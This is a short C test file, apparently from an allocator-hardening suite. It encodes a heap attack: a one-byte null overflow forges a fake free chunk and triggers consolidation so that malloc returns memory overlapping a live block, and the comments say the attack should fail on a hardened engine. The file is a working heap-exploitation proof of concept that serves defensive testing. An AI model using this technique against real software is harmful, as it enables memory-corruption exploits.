// attack: one zero behind a block, so that the next seems to follow a free one, and merges with it when it is freed
// has: an overflow by one byte, which is 0; contents and addresses of its own blocks; sizes
// reaches: malloc gives memory of a live block
// never: engine hardened
#include "attack.h"

int main(void) {
  enum { before = 0x38, middle = 0x28, behind = 0xf8, cached = 7 };
  char* const first = take(before);
  char* const live = take(middle);
  char* const freed = take(behind);
  (void)take(behind);
  char* fill[cached];
  for (int i = 0; i < cached; ++i) fill[i] = take(behind);
  const uintptr_t size = (uintptr_t)(freed - 16 - first);
  put_word(first, 0, 0);
  put_word(first, 8, size);
  put_word(first, 16, (uintptr_t)first);
  put_word(first, 24, (uintptr_t)first);
  put_word(live, middle - 8, size);
  opaque(live)[middle] = 0;
  for (int i = 0; i < cached; ++i) drop(fill[i]);
  drop(freed);
  for (int i = 0; i < 8; ++i)
    if (overlap(take(0x158), 0x158, live, middle)) reached();
  nothing();
}
